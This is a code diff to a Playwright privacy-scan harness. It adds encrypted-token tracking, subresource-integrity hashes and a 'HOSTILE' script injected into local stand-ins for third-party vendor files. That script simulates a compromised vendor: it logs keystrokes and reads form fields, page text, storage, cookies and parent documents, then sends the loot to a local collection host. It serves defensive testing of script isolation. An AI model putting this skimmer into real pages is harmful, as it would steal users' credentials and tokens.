@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
@@ -134,6 +135,8 @@ const ENCRYPTED_TOKEN_KEY = 'accessToken';
 export class PrivacyScan {
   private readonly places = new Map<string, Place>();
   private readonly tokens = new Set<string>();
+  /** The AES-encrypted access token as stored: never recorded as a place, but searched for in every place. */
+  private readonly encryptedTokens = new Set<string>();
   readonly secrets: Secret[] = [];
 
   constructor(
@@ -150,8 +153,10 @@ export class PrivacyScan {
 
   /** Records everything the page exposes from now on; call before its first navigation. */
   async watch(page: Page): Promise<void> {
-    await page.exposeBinding('__privacyRecord', (_source, kind: PlaceKind, where: string, text: string) =>
-      this.add(kind, where, text),
+    await page.exposeBinding(
+      '__privacyRecord',
+      (_source, kind: PlaceKind | 'encrypted token', where: string, text: string) =>
+        kind === 'encrypted token' ? this.encryptedTokens.add(text) : this.add(kind, where, text),
     );
     await page.addInitScript(`(${instrument.toString()})(${JSON.stringify(ENCRYPTED_TOKEN_KEY)})`);
     page.on('framenavigated', (frame) => this.add('url', 'navigation', frame.url()));
@@ -202,13 +207,14 @@ export class PrivacyScan {
     this.add('url', `${label}: location`, page.url());
   }
 
-  /** The seeded secrets plus every token the portal was issued during the scan. */
+  /** The seeded secrets plus every token the portal was issued during the scan, as sent and as stored. */
   allSecrets(): Secret[] {
     const tokens = [...this.tokens].map((token) => ({
       name: 'access or guest token',
       spellings: [token, token.replace(/^sbx\./, '')],
     }));
-    return [...this.secrets, ...tokens];
+    const stored = [...this.encryptedTokens].map((token) => ({ name: 'encrypted access token', spellings: [token] }));
+    return [...this.secrets, ...tokens, ...stored];
   }
 
   allPlaces(): Place[] {
@@ -303,6 +309,7 @@ function instrument(tokenKey: string): void {
     const area = this === window.sessionStorage ? 'sessionStorage' : 'localStorage';
     if (!(area === 'sessionStorage' && key === tokenKey))
       record('storage', `${area}.setItem(${key})`, `${key}=${value}`);
+    else if (value) record('encrypted token', 'sessionStorage', value);
     return setItem.call(this, key, value);
   };
   const layer = (w.dataLayer ??= []);
@@ -314,16 +321,64 @@ function instrument(tokenKey: string): void {
 }
 
 // ---------------------------------------------------------------------------------------------------------
-// Third-party stand-ins: the four configurable scripts, served from their own origin, each doing what its
-// real counterpart does with the page, so what they would send off the page is seen as requests.
+// Third-party stand-ins: the four configurable scripts, served from their own origin. Each does what its real
+// counterpart does with the page, and also what a compromised version of it would: it reads whatever the document
+// it runs in lets it read and sends it home. What any of them sends off the page is seen as requests.
 
 export const STAND_IN_KEYS = ['domLibraryUrl', 'feedbackSdkUrl', 'tagManagerUrl', 'monitoringUrl'] as const;
-const FILES: Record<(typeof STAND_IN_KEYS)[number], string> = {
+type StandInKey = (typeof STAND_IN_KEYS)[number];
+const FILES: Record<StandInKey, string> = {
   domLibraryUrl: 'dom-library.js',
   feedbackSdkUrl: 'feedback-sdk.js',
   tagManagerUrl: 'tag-manager.js',
   monitoringUrl: 'monitoring.js',
 };
+/** The vendor files that never change carry an integrity hash; the tag manager's file changes, so it has none. */
+const FIXED: readonly StandInKey[] = ['domLibraryUrl', 'feedbackSdkUrl', 'monitoringUrl'];
+
+/**
+ * What a compromised vendor file tries, in whichever document it runs: listeners for typing, every field's value and
+ * the page's text (on every change and every 300 ms), both storages, the cookies, the portal's configuration
+ * global, and the parent's and top's documents. Whatever it reads goes home as `kind=loot`; a document that refuses
+ * is recorded as such (`… refused: SecurityError`). A heartbeat on load proves it ran.
+ */
+const HOSTILE = `var loot = {}, sent = {}, watched = {};
+  function take(where, value) {
+    if (value === undefined || value === null || value === '' || value === '{}') return;
+    loot[where] = typeof value === 'string' ? value : JSON.stringify(value);
+  }
+  function read(name, doc) {
+    var fields = doc.querySelectorAll('input, textarea, select');
+    for (var i = 0; i < fields.length; i++) take(name + ' field ' + (fields[i].name || fields[i].id || i), fields[i].value);
+    take(name + ' text', doc.body ? doc.body.innerText : '');
+    if (watched[name]) return;
+    watched[name] = true;
+    var keys = '';
+    doc.addEventListener('keydown', function (e) { keys += e.key; take(name + ' keys', keys); }, true);
+    ['input', 'change'].forEach(function (type) {
+      doc.addEventListener(type, function (e) { var t = e.target || {}; take(name + ' ' + type + ' ' + (t.name || t.id), t.value); }, true);
+    });
+    new MutationObserver(function () { read(name, doc); })
+      .observe(doc, { subtree: true, childList: true, characterData: true, attributes: true });
+  }
+  function attempt(where, get) {
+    try { get(); } catch (e) { take(where + ' refused', String(e && e.name)); }
+  }
+  function sweep() {
+    attempt('sessionStorage', function () { take('sessionStorage', JSON.stringify(sessionStorage)); });
+    attempt('localStorage', function () { take('localStorage', JSON.stringify(localStorage)); });
+    attempt('cookie', function () { take('cookie', document.cookie); });
+    take('__PORTAL_CONFIG__', window.__PORTAL_CONFIG__);
+    attempt('document', function () { read('document', document); });
+    attempt('parent.document', function () { read('parent', parent.document); });
+    attempt('top.document', function () { read('top', top.document); });
+    var changed = {}, any = false;
+    for (var k in loot) if (loot[k] !== sent[k]) { changed[k] = sent[k] = loot[k]; any = true; }
+    if (any) send('loot', changed);
+  }
+  send('heartbeat', { where: location.pathname });
+  sweep();
+  setInterval(sweep, 300);`;
 
 function standInScript(file: string, origin: string): string {
   const send = `function send(kind, data) {
@@ -365,13 +420,15 @@ function standInScript(file: string, origin: string): string {
       });
       setInterval(function () { if (batch.length) { send('batch', { url: location.href, title: document.title, items: batch.splice(0) }); } }, 300);`,
   };
-  return `(function () { ${send}\n${body[file]}\nwindow.__standIns = (window.__standIns || 0) + 1; })();\n`;
+  return `(function () { ${send}\n${body[file]}\n${HOSTILE}\nwindow.__standIns = (window.__standIns || 0) + 1; })();\n`;
 }
 
 export interface StandIns {
   origin: string;
   /** For the preview's `thirdParty` configuration. */
-  config: Record<(typeof STAND_IN_KEYS)[number], string>;
+  config: Record<StandInKey, string>;
+  /** For `thirdPartyIntegrity`: the fixed files' hashes (the tag manager has none). */
+  integrity: Partial<Record<StandInKey, string>>;
   /** What the stand-ins' host received: one line per request (file, query, body). */
   received: string[];
   close(): Promise<void>;
@@ -379,7 +436,7 @@ export interface StandIns {
 
 export async function startThirdPartyStandIns(): Promise<StandIns> {
   const received: string[] = [];
-  let origin = '';
+  const scripts = new Map<string, string>();
   const server: Server = createServer((req, res) => {
     const cors = {
       'Access-Control-Allow-Origin': '*',
@@ -387,9 +444,10 @@ export async function startThirdPartyStandIns(): Promise<StandIns> {
       'Cache-Control': 'no-store',
     };
     const path = new URL(req.url ?? '/', 'http://x').pathname.slice(1);
-    if (req.method === 'GET' && Object.values(FILES).includes(path)) {
+    const script = scripts.get(path);
+    if (req.method === 'GET' && script) {
       res.writeHead(200, { ...cors, 'Content-Type': 'text/javascript; charset=utf-8' });
-      res.end(standInScript(path, origin));
+      res.end(script);
       return;
     }
     const chunks: Buffer[] = [];
@@ -401,15 +459,38 @@ export async function startThirdPartyStandIns(): Promise<StandIns> {
     });
   });
   await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
-  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  for (const file of Object.values(FILES)) scripts.set(file, standInScript(file, origin));
   const config = Object.fromEntries(STAND_IN_KEYS.map((k) => [k, `${origin}/${FILES[k]}`])) as StandIns['config'];
-  return { origin, config, received, close: () => new Promise((done) => server.close(() => done())) };
+  const integrity = Object.fromEntries(
+    FIXED.map((k) => [k, `sha384-${createHash('sha384').update(scripts.get(FILES[k])!).digest('base64')}`]),
+  );
+  return { origin, config, integrity, received, close: () => new Promise((done) => server.close(() => done())) };
 }
 
-/** Waits until all four stand-ins run on the page and have had time to send what they collected. */
+/** The files that sent a heartbeat among `received` lines (each stand-in sends one wherever it starts). */
+export function heartbeats(received: readonly string[]): string[] {
+  const files = received.map((line) => /^\/collect\/([\w-]+\.js)\?kind=heartbeat/.exec(line)?.[1]).filter(Boolean);
+  return [...new Set(files as string[])].sort();
+}
+
+/**
+ * Waits until all four stand-ins run in one of the page's documents (the vendor frame, or the page itself where a
+ * portal loads them there) and have had time to send what they collected.
+ */
 export async function standInsSettled(page: Page): Promise<void> {
-  await page.waitForFunction(() => (window as unknown as { __standIns?: number }).__standIns === 4, undefined, {
-    timeout: 15_000,
-  });
+  const running = async () => {
+    for (const frame of page.frames()) {
+      const count = await frame
+        .evaluate(() => (window as unknown as { __standIns?: number }).__standIns ?? 0)
+        .catch(() => 0);
+      if (count === 4) return true;
+    }
+    return false;
+  };
+  for (let waited = 0; !(await running()); waited += 100) {
+    if (waited > 15_000) throw new Error('the four third-party stand-ins never ran');
+    await page.waitForTimeout(100);
+  }
   await page.waitForTimeout(800); // the stand-ins send in 200-300 ms ticks
 }
